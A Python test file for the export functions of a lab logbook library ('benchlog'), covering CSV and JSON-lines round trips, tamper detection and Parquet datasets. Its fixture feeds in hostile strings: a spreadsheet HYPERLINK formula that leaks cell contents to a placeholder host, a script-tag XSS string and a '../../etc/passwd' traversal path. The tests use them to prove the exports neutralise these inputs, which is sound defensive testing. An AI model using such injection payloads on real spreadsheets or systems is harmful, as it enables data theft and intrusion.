"""Exports: readable elsewhere, harmless there, and enough to make the logbook again."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import json
import math
from pathlib import Path

import msgspec
import pandas as pd
import pytest
from helpers.desk import Desk
from helpers.field_edits import alter
from helpers.small_logbook import START, a_capture, a_result, make_small_logbook, some_readings
from hypothesis import given, settings
from hypothesis import strategies as st

import benchlog
from benchlog.clock import ManualClock
from benchlog.errors import LogbookDamagedError, UsageError
from benchlog.logbook import Logbook
from benchlog.logbook.export import (
    READING_COLUMNS,
    SERVED_COLUMNS,
    export_csv,
    export_jsonl,
    neutral,
    unneutral,
)
from benchlog.logbook.parquet import export_parquet
from benchlog.logbook.restore import restore
from benchlog.logbook.verify import verify
from benchlog.result import Result, Verdict

FORMULA = '=HYPERLINK("http://x.invalid/"&A1)'
HOSTILE = ["<script>alert(1)</script>", FORMULA, "+1", "-1", "@x", "\tx", "../../etc/passwd", "x" * 1_000_000]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A logbook in which every text tries to do harm."""
    path = tmp_path / "hostile.logbook"
    clock = ManualClock(START)
    with Logbook.open(path, clock=clock, project="../../" + "x" * 300) as book:
        book.begin_session({"note": FORMULA})
        readings = some_readings(clock, 9)
        for number, text in enumerate(HOSTILE):
            name = text[:200]
            readings[number] = msgspec.structs.replace(
                readings[number], displayed=name, instrument=name, channel=name
            )
            book.append_result(
                Result(check=text, verdict=Verdict.PASS, reason=text, part=text, instruments=(text,))
            )
            book.attach(text.encode(), text)
            book.append("note", {"text": text})
        book.append_readings(readings)
        book.append_capture(dataclasses.replace(a_capture(), instrument="../x", source="../../y"))
    return path


def rows(path: Path) -> list[dict[str, str]]:
    """Rows of a CSV file."""
    csv.field_size_limit(2_000_000)
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@settings(max_examples=200)
@given(st.text(max_size=8))
def test_neutral_text_is_not_a_formula_and_can_be_undone(text: str) -> None:
    """Nothing that a spreadsheet would run starts a cell, and no text is lost."""
    cell = neutral(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unneutral(cell) == text


def test_csv_has_a_row_for_each_result_and_reading(small: Path, tmp_path: Path) -> None:
    """Numbers in full, units beside them; read back they equal the tables."""
    with benchlog.open(small) as tables:
        results, quantities, readings, events = export_csv(tables.book, tmp_path / "out")
        others = [e.kind for e in tables.book.entries() if e.kind not in ("result", "readings", "channel")]
        frame, found, each = tables.readings(), tables.results(), tables.quantities(withdrawn=True)
    assert [(int(r["entry"]), r["quantity"], float(r["value"])) for r in rows(quantities)] == list(
        zip(each["entry"], each["quantity"], each["value"], strict=True)
    )
    assert [r["kind"] for r in rows(events)] == others
    back = rows(readings)
    assert tuple(back[0]) == (*READING_COLUMNS, *SERVED_COLUMNS)
    assert [float(r["value"]) if r["value"] else None for r in back] == [
        None if math.isnan(v) else v for v in frame["value"]
    ]
    assert pd.to_datetime([r["time"] for r in back]).tolist() == frame["time"].tolist()
    for column in ("instrument", "channel", "function", "unit", "state", "flags", "origin"):
        assert [unneutral(r[column]) for r in back] == frame[column].astype(str).tolist()
    assert [unneutral(r["displayed"]) for r in back] == frame["displayed"].tolist()
    assert back[1]["raw"] == "0x0100ff"
    verdicts = rows(results)
    assert [r["verdict"] for r in verdicts] == found["verdict"].tolist()
    assert [float(r["expanded_uncertainty"]) for r in verdicts] == [0.38, 0.38]


def test_readings_say_what_they_were_for(tmp_path: Path) -> None:
    """Part, check, which is the lead null, and U: 0.8 % of 0.4 ohm and 2 counts of 0.1 ohm, a rectangle, so x 1.155."""
    desk = Desk(
        tmp_path, '[[instrument]]\ntag = "MA"\naccuracy = [{ function = "ohm", statement = "0.8 % + 2" }]\n'
    )
    leads = (
        "continuity",
        "--reading",
        "0.4 ohm",
        "--lead-null",
        "0.2 ohm",
        "--max",
        "1 ohm",
        "--meter",
        "MA",
    )
    desk.run(*leads, "--part", "L1")
    desk.run("record", "supersede", "4", "--reason", "wrong lead")
    desk.run(*leads, "--part", "L2")
    desk.run("record", "export", "--csv", tmp_path / "out")
    back = rows(tmp_path / "out" / "readings.csv")
    uses = [tuple(r[c] for c in ("part", "check", "use", "withdrawn")) for r in back]
    assert uses == [
        ("L1", "continuity", "reading", "yes"),
        ("L1", "continuity", "lead null", "yes"),
        ("L2", "continuity", "reading", ""),
        ("L2", "continuity", "lead null", ""),
    ]
    assert float(back[0]["expanded_uncertainty"]) == pytest.approx((0.0032 + 0.2) * 2 / math.sqrt(3))
    (tmp_path / "bench.toml").write_text("[[instrument]]\ntg = 1\n", encoding="utf-8")
    said = desk.run("record", "export", "--csv", tmp_path / "out")
    assert said.code == 0
    assert "no expanded uncertainty" in said.err


def test_no_cell_of_a_hostile_logbook_is_a_formula(hostile: Path, tmp_path: Path) -> None:
    """In results and readings, whatever was typed; and nothing is written outside the folder."""
    pytest.importorskip("pyarrow")
    before = set(tmp_path.rglob("*"))
    with Logbook.open(hostile, mode="ro") as book:
        for path in export_csv(book, tmp_path / "out"):
            numbers = {"value", "expanded_uncertainty", "low", "high", "resolution", "range_max", "mono_ns"}
            for row in rows(path):
                for column, cell in row.items():
                    assert column in numbers or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            if path.stem in ("results", "readings"):  # the others have no such text
                assert any(unneutral(cell) == FORMULA for row in rows(path) for cell in row.values())
        export_jsonl(book, tmp_path / "out" / "jsonl")
        export_parquet(book, tmp_path / "out" / "parquet")
    new = set(tmp_path.rglob("*")) - before
    assert all(tmp_path / "out" in path.parents or path == tmp_path / "out" for path in new)
    assert all(len(path.name) < 120 for path in new)


def test_json_lines_make_the_same_logbook_again(hostile: Path, small: Path, tmp_path: Path) -> None:
    """Digest for digest: readings, samples, attachments and summaries included."""
    for number, source in enumerate((small, hostile)):
        folder, made = tmp_path / f"jsonl{number}", tmp_path / f"again{number}.logbook"
        with Logbook.open(source, mode="ro") as book:
            export_jsonl(book, folder)
            head = book.head()
            readings = [book.readings_of(e.seq) for e in book.entries("readings")]
        found = restore(folder, made)
        assert (found.head, found.entries) == (head.digest, head.seq)
        assert verify(made, head=head.digest).ok
        with Logbook.open(made) as book:
            assert [book.readings_of(e.seq) for e in book.entries("readings")] == readings
            assert book.append("note", {"text": "goes on"}).seq == head.seq + 1
        with pytest.raises(UsageError, match="exists"):
            restore(folder, made)


def test_json_lines_are_the_chain_in_a_text_editor(small: Path, tmp_path: Path) -> None:
    """One entry a line, exactly as digested; a page beside it says how to check."""
    with Logbook.open(small, mode="ro") as book:
        entries, readings, page, blobs = export_jsonl(book, tmp_path / "out")
        head = book.head()
    previous = "0" * 64
    lines = entries.read_bytes().splitlines()
    for line in lines:
        assert json.loads(line)["previous"] == previous
        previous = hashlib.sha256(line).hexdigest()
    assert (len(lines), previous) == (head.seq, head.digest)
    assert json.loads(readings.read_text(encoding="utf-8").splitlines()[0])["displayed"] == "27.75 V"
    assert all(hashlib.sha256(p.read_bytes()).hexdigest() == p.name for p in blobs.iterdir())
    assert "SHA-256" in page.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        ("entries.jsonl", "cover stays on", "cover is off"),
        ("readings.jsonl", "27.75", "27.65"),
        ("readings.jsonl", '"session":1', '"session":1,"x":[[['),
        ("entries.jsonl", '{"body"', '{"bodi"'),
    ],
)
def test_an_altered_export_is_not_restored(
    small: Path, tmp_path: Path, name: str, old: str, new: str
) -> None:
    """The digests show it; nothing is left behind."""
    folder = tmp_path / "out"
    with Logbook.open(small, mode="ro") as book:
        export_jsonl(book, folder)
    text = (folder / name).read_text(encoding="utf-8")
    assert old in text
    (folder / name).write_text(text.replace(old, new, 1), encoding="utf-8")
    with pytest.raises(LogbookDamagedError):
        restore(folder, tmp_path / "again.logbook")
    assert not list(tmp_path.glob("*again*"))


def test_a_missing_or_foreign_blob_is_not_restored(small: Path, tmp_path: Path) -> None:
    """Samples and attachments must be there, and be those."""
    with Logbook.open(small, mode="ro") as book:
        *_, blobs = export_jsonl(book, tmp_path / "out")
    blob = min(blobs.iterdir())
    data = blob.read_bytes()
    blob.write_bytes(data + b"x")
    with pytest.raises(LogbookDamagedError):
        restore(tmp_path / "out", tmp_path / "again.logbook")
    blob.unlink()
    with pytest.raises(LogbookDamagedError, match="blobs"):
        restore(tmp_path / "out", tmp_path / "again.logbook")


def test_parquet_of_several_benches_is_one_table(tmp_path: Path) -> None:
    """Two logbooks in one folder: pandas and DuckDB read readings and results of both, with project and session."""
    pq = pytest.importorskip("pyarrow.parquet")
    folder = tmp_path / "dataset"
    frames = []
    for name in ("one", "two"):
        path = make_small_logbook(tmp_path / f"{name}.logbook")
        with benchlog.open(path) as tables:
            for _ in range(2):  # exporting again replaces, it does not double
                export_parquet(tables.book, folder)
            frames.append(tables.readings())
    back = pd.read_parquet(folder / "readings")
    assert len(back) == 60
    assert set(back["project"]) == {"KC-1"}
    assert back["logbook"].nunique() == 2
    for (_, part), frame in zip(back.groupby("logbook", observed=True), frames, strict=True):
        ordered = part.sort_values("number").reset_index(drop=True)
        for column in frame.columns.drop(
            ["part", "check", "expanded_uncertainty"]
        ):  # these refer to other entries
            ours, theirs = frame[column], ordered[column]
            if column == "session":
                theirs = theirs.astype(int)
            if str(ours.dtype) == "category":
                ours, theirs = ours.astype(str), theirs.astype(str)
            pd.testing.assert_series_equal(ours, theirs, check_names=False, check_dtype=False)
    results = pd.read_parquet(folder / "results")
    assert results["verdict"].value_counts().to_dict() == {"pass": 2, "fail": 2}
    assert Result.from_json(json.loads(results["result"].iloc[0])).part == "T1"
    assert not list(folder.rglob("*.part"))
    assert pq.read_schema(next((folder / "readings").rglob("*.parquet"))).names[0] == "logbook"


def test_duckdb_reads_the_data_set(small: Path, tmp_path: Path) -> None:
    """As one table, partitions as columns."""
    duckdb = pytest.importorskip("duckdb")
    pytest.importorskip("pyarrow")
    with benchlog.open(small) as tables:
        export_parquet(tables.book, tmp_path / "dataset")
        mean = tables.readings(function="V~")["value"].mean()
    query = (
        f"SELECT project, session, count(value), avg(value) FROM read_parquet('{tmp_path}/dataset/readings/**/*.parquet',"
        " hive_partitioning = true) WHERE function = 'V~' GROUP BY ALL"
    )
    ((project, session, count, average),) = duckdb.sql(query).fetchall()
    assert (project, session, count) == ("KC-1", 1, 28)
    assert average == pytest.approx(mean)


def test_a_damaged_logbook_exports_what_is_intact_and_says_what_is_not(small: Path, tmp_path: Path) -> None:
    """An altered result, block and attachment are left out and named; without asking, they are errors."""
    pytest.importorskip("pyarrow")
    with Logbook.open(small, mode="ro") as book:
        block = [e.seq for e in book.entries("readings")][1]
        result = next(book.entries("result")).seq
        attachment = next(book.entries("attachment")).seq
    with Logbook.open(small) as book, book.querying() as db:
        db.execute("UPDATE block SET data = replace(data, x'00', x'01') WHERE entry=?", (block,))
        db.execute("UPDATE entry SET text = replace(text, 'C01', 'C02') WHERE seq=?", (result,))
        db.execute("UPDATE attachment SET data = x'00'")
    damage: dict[int, str] = {}
    with Logbook.open(small, mode="ro") as book:
        for export in (export_csv, export_jsonl, export_parquet):
            with pytest.raises(LogbookDamagedError):
                export(book, tmp_path / "strict")
            export(book, tmp_path / export.__name__, on_damage=lambda seq, what: damage.setdefault(seq, what))
    assert sorted(damage) == sorted([block, result, attachment])
    assert len(rows(tmp_path / "export_csv" / "results.csv")) == 1
    assert {row["kind"] for row in rows(tmp_path / "export_csv" / "events.csv")} >= {"attachment"}
    assert len(rows(tmp_path / "export_csv" / "readings.csv")) == 20
    assert len(pd.read_parquet(tmp_path / "export_parquet" / "readings")) == 20


def test_progress_is_reported(small: Path, tmp_path: Path) -> None:
    """Done and total, ending at all."""
    steps: list[tuple[int, int]] = []
    with Logbook.open(small, mode="ro") as book:
        export_csv(book, tmp_path / "out", progress=lambda done, total: steps.append((done, total)))
    assert steps[-1] == (30, 30)


def test_a_special_number_survives(book: Logbook, tmp_path: Path) -> None:
    """Infinity, negative zero and the smallest number there is."""
    values = [float("inf"), -0.0, 5e-324, 1.7976931348623157e308, 0.1]
    template = some_readings(ManualClock(START), 2)[0]
    book.append_readings([msgspec.structs.replace(template, value=v) for v in values])
    book.append_result(a_result())
    export_jsonl(book, tmp_path / "out")
    restore(tmp_path / "out", tmp_path / "again.logbook")
    with Logbook.open(tmp_path / "again.logbook") as again:
        assert repr([r.value for r in again.readings_of(3)]) == repr(values)


def test_an_export_whose_line_ends_became_cr_lf_is_imported(small: Path, tmp_path: Path) -> None:
    """Version control on Windows does that, and some editors; digest for digest the same logbook."""
    with Logbook.open(small, mode="ro") as book:
        head = book.head().digest
        export_jsonl(book, tmp_path / "out")
    for name in ("entries.jsonl", "readings.jsonl"):
        file = tmp_path / "out" / name
        assert b"\r" not in file.read_bytes()
        file.write_bytes(b"\xef\xbb\xbf" + file.read_bytes().replace(b"\n", b"\r\n"))
    assert restore(tmp_path / "out", tmp_path / "again.logbook").head == head


def test_exports_have_line_feeds_and_an_older_export_outlives_a_failed_one(
    small: Path, tmp_path: Path
) -> None:
    """Nothing under its final name is half an export."""
    with Logbook.open(small, mode="ro") as book:
        for path in [*export_csv(book, tmp_path), *export_jsonl(book, tmp_path)]:
            assert path.is_dir() or b"\r" not in path.read_bytes()
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir() if path.is_file()}
    alter(small, "UPDATE block SET data = x'00'")
    with Logbook.open(small, mode="ro") as book:
        for export in (export_csv, export_jsonl):
            with pytest.raises(LogbookDamagedError):
                export(book, tmp_path)
    assert {
        path.name: path.read_bytes() for path in tmp_path.iterdir() if path.is_file() and path != small
    } == {name: data for name, data in before.items() if name != small.name}
